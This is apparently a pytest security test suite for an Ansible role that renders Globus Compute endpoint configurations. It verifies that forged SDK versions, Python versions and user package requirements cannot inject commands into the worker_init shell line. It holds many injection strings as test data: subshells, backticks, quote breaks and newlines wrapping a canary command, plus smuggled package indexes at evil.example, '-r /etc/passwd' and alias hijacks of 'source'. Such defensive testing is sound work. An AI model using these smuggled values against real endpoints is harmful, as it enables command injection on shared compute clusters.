"""The endpoint template, rendered by the real `globus-compute-endpoint render-user-config`.

The Ansible layer is rendered by the python_envs role itself (its runtime
tasks) into a temporary directory; the endpoint layer by the endpoint's own
renderer, exactly as a running endpoint does. Every result is either YAML that
the endpoint's own loader accepts, with a worker_init of the one expected
shape, or a clean render error; and no forged value is ever executed: the
rendered worker_init is run in bash against a canary file.
"""

from __future__ import annotations

import getpass
import grp
import json
import os
import re
import subprocess
from pathlib import Path

import pytest
import role_runner
import yaml
from collection_plugins import CONTRACT

ROOT = Path(__file__).resolve().parents[2]
GCE = ROOT / ".venv-gce" / "bin"
DEFAULT = "3.11 4.19.0"
# One per test process: a canary another worker left must not fail this one.
CANARY = f"/tmp/hpc-gc-canary-{os.getpid()}"


def deploy_runtime(dest: Path, **variables: object) -> Path:
    """Lay down worker-env.sh, its settings, the template and the schema with the role."""
    result = role_runner.run_role(
        dest,
        "python_envs",
        {
            "python_envs_runtime_dir": str(dest / "runtime"),
            "python_envs_root": str(dest / "envs"),
            "python_envs_owner": getpass.getuser(),
            "python_envs_group": grp.getgrgid(os.getgid()).gr_name,
            "python_envs_user_builds": False,
            "python_envs_uv": str(role_runner.ROOT / ".venv" / "bin" / "uv"),
            **variables,
        },
        # The role's checks, then its runtime; nothing is built.
        args=["--tags=python_envs_runtime"],
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return dest / "runtime"


@pytest.fixture(scope="module")
def runtime_default(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return deploy_runtime(tmp_path_factory.mktemp("default"))


@pytest.fixture(scope="module")
def runtime_strict(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return deploy_runtime(tmp_path_factory.mktemp("strict"), python_envs_runtime_fallback="error")


def render(
    runtime_dir: Path, user_runtime: object, tmp_path: Path, options: dict | None = None
) -> subprocess.CompletedProcess[str]:
    (tmp_path / "runtime.json").write_text(json.dumps(user_runtime))
    (tmp_path / "options.json").write_text(json.dumps(options or {}))
    return subprocess.run(
        [
            str(GCE / "globus-compute-endpoint"),
            "render-user-config",
            "-t",
            str(runtime_dir / "user_config_template.yaml.j2"),
            "-s",
            str(runtime_dir / "user_config_schema.json"),
            "-o",
            str(tmp_path / "options.json"),
            "--user-runtime",
            str(tmp_path / "runtime.json"),
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "GLOBUS_COMPUTE_USER_DIR": str(tmp_path / "gc")},
    )


def batch(mode: str, items: list) -> list:
    """render_batch.py in the endpoint's Python: many renders or loads in one process."""
    run = subprocess.run(
        [str(GCE / "python"), str(Path(__file__).with_name("render_batch.py")), mode],
        input=json.dumps(items),
        capture_output=True,
        text=True,
        check=True,
    )
    return json.loads(run.stdout)


def render_many(
    runtime_dir: Path, cases: dict[str, tuple[object, dict]], schema: Path | None = None
) -> dict[str, subprocess.CompletedProcess[str]]:
    """Each case's (user_runtime, options) rendered by the endpoint's own command."""
    template = runtime_dir / "user_config_template.yaml.j2"
    schema = schema or runtime_dir / "user_config_schema.json"
    items = [
        {"template": str(template), "schema": str(schema), "runtime": runtime, "options": options}
        for runtime, options in cases.values()
    ]
    return {
        name: subprocess.CompletedProcess([], r["rc"], r["stdout"], r["stderr"])
        for name, r in zip(cases, batch("render", items), strict=True)
    }


def load_many(rendered: dict[str, str]) -> dict[str, str]:
    """What the endpoint's own loader makes of each rendered configuration."""
    return dict(zip(rendered, batch("load", list(rendered.values())), strict=True))


def assert_never_executed(runtime_dir: Path, worker_init: str) -> None:
    """Run worker_init as a launch script would; the forged command must not have run."""
    Path(CANARY).unlink(missing_ok=True)
    subprocess.run(["bash", "-c", worker_init], capture_output=True, text=True)
    assert not Path(CANARY).exists(), "a forged value was executed"


def test_the_canary_shows_a_forged_command_that_runs(tmp_path: Path) -> None:
    """The tests' "never executed" is worth something only if an executed value shows: the same
    check, given a worker_init that does run the forged command, fails."""
    with pytest.raises(AssertionError, match="a forged value was executed"):
        assert_never_executed(tmp_path, f"true; {SHELL}")
    Path(CANARY).unlink()


def source_runtime(runtime_dir: Path, *args: str, on_failure: str = "") -> subprocess.CompletedProcess[str]:
    """`source worker-env.sh ARGS` in bash under `set -euo pipefail`, as a worker_init runs it."""
    script = 'set -euo pipefail; source "$0/worker-env.sh" "$@"' + (f" || {on_failure}" if on_failure else "")
    return subprocess.run(["bash", "-c", script, str(runtime_dir), *args], capture_output=True, text=True)


def sdk(python: tuple[int, int], version: str) -> dict:
    return {
        "globus_compute_sdk_version": version,
        "python_version": f"{python[0]}.{python[1]}.2",
        "python": {"version": f"{python[0]}.{python[1]}.2", "version_tuple": [*python, 2, "final", 0]},
    }


def forged_tuple(value: object) -> dict:
    """A current SDK's runtime with a forged version_tuple and no python_version to fall back on."""
    return {"globus_compute_sdk_version": "4.19.0", "python": {"version_tuple": value}}


def old_sdk(sys_version: object, version: str = "3.13.0") -> dict:
    """What SDKs 2.24 to 3.13 send: their sys.version as python_version, no `python`."""
    return {"globus_compute_sdk_version": version, "python_version": sys_version}


SHELL = f"touch {CANARY}"
VALID = [
    ("current-sdk", sdk((3, 12), "4.19.0"), "3.12 4.19.0"),
    ("sdk-3.14-era", sdk((3, 13), "3.14.0"), "3.13 3.14.0"),
    ("pre-release", sdk((3, 13), "4.20.0rc1"), "3.13 4.20.0rc1"),
    ("alpha", sdk((3, 14), "4.20.0a2"), "3.14 4.20.0a2"),
    ("post-release", sdk((3, 11), "4.19.0.post1"), "3.11 4.19.0.post1"),
    ("dev-release", sdk((3, 11), "4.20.0.dev3"), "3.11 4.20.0.dev3"),
    ("post-then-dev", sdk((3, 11), "4.19.0.post1.dev2"), "3.11 4.19.0.post1.dev2"),
    (
        "every-part-four-digits",
        sdk((3, 11), "4444.1919.0000rc9999.post9999.dev9999"),
        "3.11 4444.1919.0000rc9999.post9999.dev9999",
    ),
    ("sys-version-minor-zero", old_sdk("3.0.1 (main)"), "3.0 3.13.0"),
    # Old SDKs: the X.Y of their sys.version.
    ("sdk-3.13-sys-version", old_sdk("3.12.1 (main, Dec  8 2023, 05:40:41) [GCC 12.2.0]"), "3.12 3.13.0"),
    (
        "sdk-2.24-rhel-sys-version",
        old_sdk("3.9.18 (main, Sep 22 2023, 17:58:34) \n[GCC 8.5.0 20210514 (Red Hat 8.5.0-20)]", "2.24.0"),
        "3.9 2.24.0",
    ),
    ("sdk-2.30-version-only", old_sdk("3.9.1", "2.30.1"), "3.9 2.30.1"),
    ("sys-version-release-candidate", old_sdk("3.13.0rc2 (main, Sep  9 2024, 22:33:37) [Clang 15.0.0]"), "3.13 3.13.0"),
    # A usable version_tuple wins over python_version.
    ("tuple-and-sys-version", {**sdk((3, 12), "4.19.0"), "python_version": "3.10.4"}, "3.12 4.19.0"),
]
# No Python version at all: the site's default pair, said to be a fallback.
NO_PYTHON = [
    ("no-runtime", {}),
    ("python-not-a-dict", {"globus_compute_sdk_version": "4.19.0", "python": "3.12"}),
    ("tuple-is-a-string", forged_tuple("3.12")),
    ("string-minor", forged_tuple([3, "12"])),
    ("shell-in-minor", forged_tuple([3, f"12; {SHELL}"])),
    ("nested-list", forged_tuple([[3], [12]])),
    ("float-minor", forged_tuple([3, 12.0])),
    ("bool-minor", forged_tuple([3, True])),
    ("python-2", forged_tuple([2, 7])),
    ("huge-minor", forged_tuple([3, 10**6])),
    ("short-tuple", forged_tuple([3])),
    ("sys-version-shell", old_sdk(f"3.12$({SHELL}) (main)")),
    ("sys-version-newline", old_sdk(f"3.12\n{SHELL}")),
    ("sys-version-three-digit-minor", old_sdk("3.123.1 (main)")),
    ("sys-version-leading-zero", old_sdk("3.01.5 (main)")),
    ("sys-version-leading-zeros", old_sdk("3.012 (main)")),
    ("sys-version-letters", old_sdk("3.1a.1 (main)")),
    ("sys-version-python-4", old_sdk("4.0.1 (main)")),
    ("sys-version-bare-major", old_sdk("3.")),
    ("sys-version-fullwidth-digit", old_sdk("3.\uff11\uff12.1")),
    ("sys-version-not-a-string", old_sdk(3.12)),
    ("sys-version-list", old_sdk(["3.12.1"])),
]
# A Python but no usable SDK version: that Python, with the endpoint the site
# builds for it (here none: the default's), said to be a fallback.
NO_SDK = [
    ("sdk-2x-python-only", {"python_version": "3.9.1"}),
    ("subshell-in-sdk", sdk((3, 12), f"4.19.0$({SHELL})")),
    ("backticks-in-sdk", sdk((3, 12), f"4.19.0`{SHELL}`")),
    ("quotes-in-sdk", sdk((3, 12), f'4.19.0"; {SHELL}; "')),
    ("single-quote-in-sdk", sdk((3, 12), f"4.19.0'; {SHELL}; '")),
    ("newline-in-sdk", sdk((3, 12), f"4.19.0\n{SHELL}")),
    ("semicolon-in-sdk", sdk((3, 12), f"4.19.0;{SHELL}")),
    ("sdk-not-a-string", sdk((3, 12), 4.19)),  # type: ignore[arg-type]
    ("sdk-list", sdk((3, 12), ["4.19.0"])),  # type: ignore[arg-type]
    ("sdk-two-parts", sdk((3, 12), "4.19")),
    ("sdk-local-version", sdk((3, 12), "4.19.0+evil")),
    ("sdk-too-long", sdk((3, 12), "4.19.0" + ".post1" * 10)),
    ("sdk-dev-then-post", sdk((3, 12), "4.19.0.dev1.post1")),
    ("sdk-post-twice", sdk((3, 12), "4.19.0.post1.post2")),
    ("sdk-dev-twice", sdk((3, 12), "4.19.0.dev1.dev2")),
    ("sdk-five-digit-post", sdk((3, 12), "4.19.0.post12345")),
    ("sdk-five-digit-major", sdk((3, 12), "12345.19.0")),
    ("sdk-five-digit-rc", sdk((3, 12), "4.19.0rc12345")),
    ("sdk-bare-post", sdk((3, 12), "4.19.0.post")),
    ("sdk-c-pre-release", sdk((3, 12), "4.19.0c1")),
    ("sdk-two-pre-releases", sdk((3, 12), "4.19.0a1b2")),
    ("sdk-dotted-rc", sdk((3, 12), "4.19.0.rc1")),
    ("sdk-fullwidth-digit", sdk((3, 12), "4.19.\uff10")),
]
MISSING_OR_FORGED = [*NO_PYTHON, *NO_SDK, ("runtime-is-a-list", [1, 2, 3])]
FALLBACK = {name: f"--fallback=default {DEFAULT}" for name, _ in NO_PYTHON} | {
    name: ("--fallback=endpoint 3.9 4.19.0" if name == "sdk-2x-python-only" else "--fallback=endpoint 3.12 4.19.0")
    for name, _ in NO_SDK
}


def worker_init_of(rendered: str) -> str:
    return yaml.safe_load(rendered)["engine"]["provider"]["worker_init"]


# A user's packages: the `requirements` option (a requirements.txt as one
# string, as in the endpoint's own template) and `packages` (a list), with the
# arguments worker-env.sh gets for them.
USER_PACKAGES = [
    (
        "requirements-file",
        {"requirements": "six==1.17.0\nidna >= 3, <4\n\n  requests[socks,use-chardet]~=2.0  \n"},
        "'six==1.17.0' 'idna >= 3, <4' 'requests[socks,use-chardet]~=2.0'",
    ),
    ("packages-list", {"packages": ["six", "numpy>=2"]}, "'six' 'numpy>=2'"),
    ("both", {"requirements": "six", "packages": ["idna"]}, "'six' 'idna'"),
    ("arbitrary-equality", {"requirements": "legacy===1.0-foo"}, "'legacy===1.0-foo'"),
]


@pytest.fixture(scope="module")
def runtime_renders(runtime_default: Path) -> dict[str, subprocess.CompletedProcess[str]]:
    cases = {name: (runtime, {}) for name, runtime, *_ in [*VALID, *MISSING_OR_FORGED]}
    cases |= {name: (VALID[0][1], options) for name, options, _ in USER_PACKAGES}
    return render_many(runtime_default, cases)


@pytest.fixture(scope="module")
def runtime_loads(runtime_renders: dict) -> dict[str, str]:
    return load_many({name: r.stdout for name, r in runtime_renders.items() if r.returncode == 0})


LOADED = "UserEndpointConfig GlobusComputeEngine"


# Valid runtimes select their environment; a user's packages follow as single-quoted arguments.
SELECTED = [(v[0], v[2]) for v in VALID] + [(p[0], f"3.12 4.19.0 {p[2]}") for p in USER_PACKAGES]


@pytest.mark.parametrize(("name", "wanted"), SELECTED, ids=[c[0] for c in SELECTED])
def test_valid_requests_select_their_environment(
    runtime_default: Path, runtime_renders: dict, runtime_loads: dict, name: str, wanted: str
) -> None:
    result = runtime_renders[name]
    assert result.returncode == 0, result.stderr
    assert worker_init_of(result.stdout) == f"\\builtin source {runtime_default}/worker-env.sh {wanted} || exit 1"
    assert runtime_loads[name] == LOADED


@pytest.mark.parametrize("name", [m[0] for m in MISSING_OR_FORGED])
def test_missing_or_forged_versions_fall_back_to_the_site_and_say_so(
    runtime_default: Path, runtime_renders: dict, runtime_loads: dict, name: str
) -> None:
    result = runtime_renders[name]
    if name == "runtime-is-a-list":
        # The endpoint refuses a non-object user_runtime itself: a clean error, nothing rendered.
        assert result.returncode != 0 and result.stdout == ""
        return
    assert result.returncode == 0, result.stderr
    worker_init = worker_init_of(result.stdout)
    assert worker_init == f"\\builtin source {runtime_default}/worker-env.sh {FALLBACK[name]} || exit 1"
    assert runtime_loads[name] == LOADED
    assert_never_executed(runtime_default, worker_init)


@pytest.mark.parametrize(
    "user_runtime",
    [{}, dict(NO_PYTHON)["shell-in-minor"], dict(NO_SDK)["subshell-in-sdk"]],
    ids=["no-runtime", "forged-python", "forged-sdk"],
)
def test_strict_policy_fails_the_render_with_a_message_for_the_user(
    runtime_strict: Path, tmp_path: Path, user_runtime: dict
) -> None:
    result = render(runtime_strict, user_runtime, tmp_path)
    assert result.returncode != 0
    assert result.stdout.strip() == ""
    assert "upgrade_globus_compute_sdk" in result.stderr


def test_strict_policy_still_serves_valid_runtimes(runtime_strict: Path, tmp_path: Path) -> None:
    result = render(runtime_strict, VALID[0][1], tmp_path)
    assert result.returncode == 0, result.stderr
    assert worker_init_of(result.stdout).endswith("worker-env.sh 3.12 4.19.0 || exit 1")


def test_strict_policy_serves_old_sdks_by_their_sys_version(runtime_strict: Path, tmp_path: Path) -> None:
    result = render(runtime_strict, dict((v[0], v[1]) for v in VALID)["sdk-3.13-sys-version"], tmp_path)
    assert result.returncode == 0, result.stderr
    assert worker_init_of(result.stdout).endswith("worker-env.sh 3.12 3.13.0 || exit 1")


def test_a_python_without_an_sdk_version_gets_the_newest_endpoint_the_site_builds_for_it(tmp_path: Path) -> None:
    matrix = [
        {"python": "3.11", "endpoint": "4.19.0"},
        {"python": "3.12", "endpoint": "4.18.0"},
        {"python": "3.12", "endpoint": "4.9.0"},
    ]
    runtime = deploy_runtime(tmp_path, python_envs_matrix=matrix)
    cases = {
        "3.12": ({"python_version": "3.12.4 (main)"}, {}),
        "3.11": (forged_tuple([3, 11]) | {"globus_compute_sdk_version": "4.19.0;x"}, {}),
        "3.13": ({"python_version": "3.13.0 (main)"}, {}),
    }
    rendered = render_many(runtime, cases)
    got = {name: worker_init_of(r.stdout).split("worker-env.sh ")[1] for name, r in rendered.items()}
    assert got == {
        "3.12": "--fallback=endpoint 3.12 4.18.0 || exit 1",
        "3.11": "--fallback=endpoint 3.11 4.19.0 || exit 1",
        # No site environment for 3.13: the default's endpoint, for a per-user build.
        "3.13": "--fallback=endpoint 3.13 4.19.0 || exit 1",
    }


def test_user_options_are_refused_by_the_schema(runtime_default: Path, tmp_path: Path) -> None:
    result = render(runtime_default, VALID[0][1], tmp_path, options={"worker_init": SHELL})
    assert result.returncode != 0
    assert "'worker_init' was unexpected" in result.stderr


def test_the_runtime_refuses_what_the_template_would_never_emit(runtime_default: Path) -> None:
    for args in ([f"3.12; {SHELL}", "4.19.0"], ["3.12", f"4.19.0$({SHELL})"], ["3.12", "4.19"], ["", ""]):
        Path(CANARY).unlink(missing_ok=True)
        result = source_runtime(runtime_default, *args, on_failure="exit $?")
        assert result.returncode == 2
        assert result.stderr.startswith("worker-env: refusing ")
        assert not Path(CANARY).exists()


def test_a_missing_site_environment_fails_in_one_line_naming_what_exists(runtime_default: Path) -> None:
    result = source_runtime(runtime_default, "3.12", "4.19.0", on_failure="exit 7")
    assert result.returncode == 7
    assert result.stderr.splitlines() == [
        "worker-env: no environment for Python 3.12 with globus-compute-endpoint 4.19.0;"
        " site has: none; per-user builds are off"
    ]


# What a cluster's group_vars set: the scheduler's fields, passed through to
# the provider, and workers per node on the engine.
CLUSTER_PROVIDERS = {
    "slurm": {
        "type": "SlurmProvider",
        "partition": "compute",
        "account": "hpc-project",
        "walltime": "01:00:00",
        "nodes_per_block": 2,
        "scheduler_options": "#SBATCH --constraint=cpu",
        "init_blocks": 0,
        "min_blocks": 0,
        "max_blocks": 4,
        "launcher": {"type": "SrunLauncher"},
    },
    "pbspro": {
        "type": "PBSProProvider",
        "queue": "workq",
        "account": "hpc-project",
        "walltime": "01:00:00",
        "nodes_per_block": 1,
        "cpus_per_node": 8,
        "scheduler_options": "#PBS -l place=scatter",
        "init_blocks": 0,
        "min_blocks": 0,
        "max_blocks": 2,
        "launcher": {"type": "MpiExecLauncher"},
    },
}


@pytest.mark.parametrize("scheduler", CLUSTER_PROVIDERS)
def test_cluster_providers_render_and_load_with_the_worker_init(tmp_path: Path, scheduler: str) -> None:
    provider = CLUSTER_PROVIDERS[scheduler]
    site = tmp_path / "site"
    site.mkdir()
    runtime_dir = deploy_runtime(
        site,
        python_envs_provider=provider,
        python_envs_engine={"type": "GlobusComputeEngine", "max_workers_per_node": 8},
    )
    result = render(runtime_dir, VALID[0][1], tmp_path)
    assert result.returncode == 0, result.stderr
    rendered = yaml.safe_load(result.stdout)
    assert rendered["engine"]["max_workers_per_node"] == 8
    assert rendered["engine"]["provider"] == {**provider, "worker_init": worker_init_of(result.stdout)}
    assert worker_init_of(result.stdout).endswith("worker-env.sh 3.12 4.19.0 || exit 1")
    code = (
        "import sys\n"
        "from globus_compute_endpoint.endpoint.config.utils import load_config_yaml\n"
        "config = load_config_yaml(sys.stdin.read())\n"
        "provider = config.engine.provider\n"
        "config.engine.shutdown()\n"
        "print(type(provider).__name__, provider.walltime, provider.nodes_per_block)\n"
    )
    loaded = subprocess.run([str(GCE / "python"), "-c", code], input=result.stdout, capture_output=True, text=True)
    assert loaded.returncode == 0, loaded.stderr
    assert loaded.stdout.split() == [provider["type"], "01:00:00", str(provider["nodes_per_block"])]


# User packages: the policy, forged values, indexes.
INDEX = "https://pypi.example.org/simple"


@pytest.fixture(scope="module")
def runtime_indexes(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return deploy_runtime(tmp_path_factory.mktemp("indexes"), python_envs_user_indexes=[INDEX])


@pytest.fixture(scope="module")
def runtime_no_packages(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return deploy_runtime(tmp_path_factory.mktemp("nopackages"), python_envs_user_requirements=False)


def permissive_schema(tmp_path: Path) -> Path:
    """What a site that dropped the schema checks: nothing, so the template must hold on its own."""
    schema = tmp_path / "permissive.json"
    schema.write_text("{}")
    return schema


def test_user_packages_go_on_top_of_the_default_environment_without_a_python_version(
    runtime_default: Path, tmp_path: Path
) -> None:
    result = render(runtime_default, {}, tmp_path, {"requirements": "six"})
    assert result.returncode == 0, result.stderr
    assert (
        worker_init_of(result.stdout)
        == f"\\builtin source {runtime_default}/worker-env.sh --fallback=default {DEFAULT} 'six' || exit 1"
    )


FORGED_REQUIREMENTS = {
    "subshell": f"six$({SHELL})",
    "backticks": f"six`{SHELL}`",
    "semicolon": f"six; {SHELL}",
    "ampersand": f"six && {SHELL}",
    "pipe": f"six | {SHELL}",
    "single-quote": f"six'; {SHELL}; '",
    "double-quote": f'six"; {SHELL}; "',
    "backslash-newline": f"six\\\n{SHELL}",
    "newline-option": "six\n--index-url http://evil.example/simple",
    "newline-shell": f"six\n{SHELL}",
    "requirements-file": "-r /etc/passwd",
    "editable": "-e /tmp/evil",
    "find-links": "-f http://evil.example/",
    "extra-index": "--extra-index-url http://evil.example/simple",
    "unlisted-index": f"--index-url {INDEX}",
    "relative-path": "./evil",
    "absolute-path": "/tmp/evil.whl",
    "direct-url": "six @ https://evil.example/six.whl",
    "file-url": "file:///tmp/evil",
    "marker": 'six; python_version < "4"',
    "tab": "six\t==1.0",
    "carriage-return": "six\r\nidna",
    "unicode-name": "sïx",
    "two-names-one-line": "six idna",
    "empty": "",
    "blank-lines-only": "\n \n",
    "too-long": "six\n" * 2000,
    "too-many": "\n".join(f"pkg{i}" for i in range(40)),
    "adversarial-name": "a" * 4000 + "$",
    "adversarial-specifiers": "a" + "==1," * 1000 + "$",
}


FORGED_PACKAGES = [
    ["six", f"idna; {SHELL}"],
    ["six\nidna"],
    ["-e /tmp/evil"],
    [["six"]],
    [{"name": "six"}],
    [1],
    [f"pkg{i}" for i in range(40)],
    ["a" * 5000],
    "six",
]


FORGED = {
    **{name: {"requirements": value} for name, value in FORGED_REQUIREMENTS.items()},
    **{f"packages-{i}": {"packages": value} for i, value in enumerate(FORGED_PACKAGES)},
}


@pytest.fixture(scope="module")
def forged_with_schema(runtime_default: Path) -> dict[str, subprocess.CompletedProcess[str]]:
    return render_many(runtime_default, {name: (VALID[0][1], options) for name, options in FORGED.items()})


@pytest.fixture(scope="module")
def forged_without_schema(
    runtime_default: Path, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, subprocess.CompletedProcess[str]]:
    cases = {name: (VALID[0][1], options) for name, options in FORGED.items()}
    return render_many(runtime_default, cases, permissive_schema(tmp_path_factory.mktemp("loose")))


@pytest.mark.parametrize("name", FORGED)
def test_forged_user_packages_are_refused_by_the_schema(forged_with_schema: dict, name: str) -> None:
    result = forged_with_schema[name]
    assert result.returncode != 0
    assert result.stdout == ""
    assert "ValidationError" in result.stderr


@pytest.mark.parametrize("name", FORGED)
def test_without_the_schema_forged_packages_are_refused_or_never_run(forged_without_schema: dict, name: str) -> None:
    """The template holds on its own: a render error, or arguments that worker-env.sh refuses."""
    result = forged_without_schema[name]
    if result.returncode != 0:
        assert "requirements_refused__" in result.stderr
        return
    worker_init = worker_init_of(result.stdout)
    Path(CANARY).unlink(missing_ok=True)
    started = subprocess.run(["bash", "-c", worker_init], capture_output=True, text=True)
    assert not Path(CANARY).exists(), "a forged value was executed"
    # worker_init ends `|| exit 1`: a refusal (2) or a failed start ends the worker with 1.
    assert (started.returncode, started.stdout) == (1, ""), started.stderr
    # Blank requirements add nothing: the start is the plain one, which fails
    # only because this runtime has no environment and no per-user builds.
    # Anything else is refused before uv sees it.
    if FORGED[name].get("requirements", "x").strip():
        assert started.stderr.startswith("worker-env: refusing "), started.stderr
    else:
        assert started.stderr.startswith(
            "worker-env: no environment for Python 3.12 with globus-compute-endpoint 4.19.0; site has: none;"
        ), started.stderr


def test_an_allowed_index_is_passed_as_one_option(runtime_indexes: Path, tmp_path: Path) -> None:
    options = {"requirements": f"six\n--extra-index-url {INDEX}\n--index-url={INDEX}"}
    result = render(runtime_indexes, VALID[0][1], tmp_path, options)
    assert result.returncode == 0, result.stderr
    assert worker_init_of(result.stdout).endswith(
        f"4.19.0 'six' --extra-index-url={INDEX} --index-url={INDEX} || exit 1"
    )
    refused = render(runtime_indexes, VALID[0][1], tmp_path, {"requirements": "--index-url http://evil.example/"})
    assert refused.returncode != 0 and "ValidationError" in refused.stderr


def test_an_index_the_site_does_not_allow_is_refused_by_the_runtime(runtime_indexes: Path) -> None:
    result = source_runtime(runtime_indexes, "3.12", "4.19.0", "six", "--index-url=http://e/", on_failure="exit $?")
    assert result.returncode == 2
    assert result.stderr == "worker-env: refusing index '--index-url=http://e/': not one the site allows\n"


def test_user_packages_can_be_turned_off(runtime_no_packages: Path, tmp_path: Path) -> None:
    refused = render(runtime_no_packages, VALID[0][1], tmp_path, {"requirements": "six"})
    assert refused.returncode != 0
    assert "'requirements' was unexpected" in refused.stderr
    without_schema = render_many(
        runtime_no_packages, {"packages": (VALID[0][1], {"packages": ["six"]})}, permissive_schema(tmp_path)
    )["packages"]
    assert without_schema.returncode != 0
    assert "user_packages_are_not_allowed_on_this_endpoint" in without_schema.stderr
    runtime = source_runtime(runtime_no_packages, "3.12", "4.19.0", "six", on_failure="exit $?")
    assert runtime.returncode == 2
    assert runtime.stderr == "worker-env: refusing requirements: user packages are off on this endpoint\n"


def test_requirements_need_an_environment_to_go_on(runtime_default: Path) -> None:
    """No site environment and no per-user builds: one line, nothing built."""
    result = source_runtime(runtime_default, "3.12", "4.19.0", "six", on_failure="exit 7")
    assert result.returncode == 7
    assert result.stderr.splitlines() == [
        "worker-env: no environment for Python 3.12 with globus-compute-endpoint 4.19.0 to add packages to;"
        " site has: none; per-user builds are off"
    ]


def test_the_worker_init_line_runs_the_runtime_whatever_the_job_shell_calls_source(
    runtime_default: Path, runtime_renders: dict
) -> None:
    """An alias (with expand_aliases) or a function named source in the job shell takes no part."""
    worker_init = worker_init_of(runtime_renders["no-runtime"].stdout)
    hijack = (
        'shopt -s expand_aliases; alias source="echo hijacked >&2; false"; alias builtin="echo hijacked >&2; false"\n'
    )
    function = "source() { echo hijacked >&2; return 0; }\n"
    for prelude in (hijack, function):
        result = subprocess.run(
            ["bash", "-c", f'{prelude}eval "$0"', worker_init], capture_output=True, text=True, check=False
        )
        assert "hijacked" not in result.stderr, result.stderr
        assert result.stderr.startswith("worker-env: "), result.stderr


def test_the_template_and_the_runtime_take_the_same_sdk_versions() -> None:
    """One rule, the contract's: what the template passes, the rule accepts, and nothing else."""
    for name, runtime, *_ in [*VALID, *NO_SDK]:
        version = runtime.get("globus_compute_sdk_version") if isinstance(runtime, dict) else None
        if isinstance(version, str):
            accepted = re.match(str(CONTRACT["endpoint_pattern"]), version) is not None
            assert accepted == (name in {v[0] for v in VALID}), name


# Versions at the edges of the rule: the site fast path takes the shapes the
# template sends by globs, and every other one goes to the rule's regex.
PYTHONS = ["3.0", "3.9", "3.13", "3.99", "3.100", "3.", "3.x", "3.1a", "4.13", "03.13", "3.1.1", " 3.13", "3.13 "]
PYTHONS += ["3.13\n", "3.\u0663", "3.1\u0663", "3.*", "3.[1]", "3.?"]
ENDPOINTS = ["4.19.0", "0.0.0", "1234.1234.1234", "12345.1.1", "1.12345.1", "1.1.12345", "4.19", "4.19.0.1"]
ENDPOINTS += ["4..19.0", ".4.19.0", "4.19.0.", "4.19.0rc1", "4.19.0a1.post2.dev3", "4.19.0.dev1", "4.19.0.post1"]
ENDPOINTS += ["4.19.0rc12345", "4.19.0rc", "4.19.0.post", "4.19.0post1", "4.19.0.dev1.post1", "4.19.0c1"]
ENDPOINTS += [" 4.19.0", "4.19.0 ", "4.19.0\n", "4.\u0663.0", "4.19.0-1", "4.19.x", "4.1a9.0", "4.*.0", "4.19.[0]"]


@pytest.mark.parametrize(("kind", "versions"), [("python", PYTHONS), ("endpoint", ENDPOINTS)])
def test_the_runtime_takes_exactly_the_versions_of_its_rule(
    runtime_default: Path, tmp_path: Path, kind: str, versions: list[str]
) -> None:
    """Each version has a ready site environment of its name: one the rule refuses is refused, never activated.

    The fast path's globs take exactly the rule's plain X.Y.Z releases: a start
    they take never reads worker-env.conf beyond its site root, so a last line
    of it that speaks says which part ran.
    """
    text = (ROOT / "roles/python_envs/files/worker-env.sh").read_text()
    rule = str(CONTRACT["python_pattern" if kind == "python" else "endpoint_pattern"])
    runtime = tmp_path / "runtime"
    runtime.mkdir()
    (runtime / "worker-env.sh").write_text(text)
    conf = (runtime_default / "worker-env.conf").read_text()
    conf = conf.replace(str(runtime_default.parent / "envs"), str(tmp_path / "envs"))
    (runtime / "worker-env.conf").write_text(conf + "echo SECOND-PART >&2\n")
    for version in versions:
        py, gce = (version, "4.19.0") if kind == "python" else ("3.13", version)
        env = tmp_path / "envs" / f"py{py}-gce{gce}"
        (env / "bin").mkdir(parents=True)
        (env / ".ready").write_text("{}\n")
        (env / "bin" / "activate").write_text("ACTIVATED=yes\n")
        (env / "bin" / "python").write_text("#!/bin/sh\n")
        (env / "bin" / "python").chmod(0o755)
        script = 'set -euo pipefail; source "$0" "$1" "$2" || exit; echo "$ACTIVATED"'
        result = subprocess.run(
            ["bash", "-c", script, runtime / "worker-env.sh", py, gce],
            capture_output=True,
            text=True,
            check=False,
        )
        if re.match(rule, version):
            assert (result.returncode, result.stdout) == (0, "yes\n"), (version, result.stderr)
            # Plain releases by the fast path alone; any other shape by the second part.
            fast = re.fullmatch(r"[0-9.]+", gce) is not None
            second = "" if fast else "SECOND-PART\n"
            assert result.stderr.startswith(f"{second}worker-env: {env.name} site {env} "), (version, result.stderr)
        else:
            what = "Python" if kind == "python" else "globus-compute-endpoint"
            expected = "expected 3.X" if kind == "python" else "expected a release such as 4.19.0"
            assert (result.returncode, result.stdout) == (2, ""), (version, result.stderr)
            # A refusal is one line: a control character the client sent shows as ?.
            shown = re.sub(r"[\x00-\x1f\x7f]", "?", version[:40])
            refusal = f"worker-env: refusing {what} version '{shown}': {expected}\n"
            assert result.stderr == "SECOND-PART\n" + refusal, version
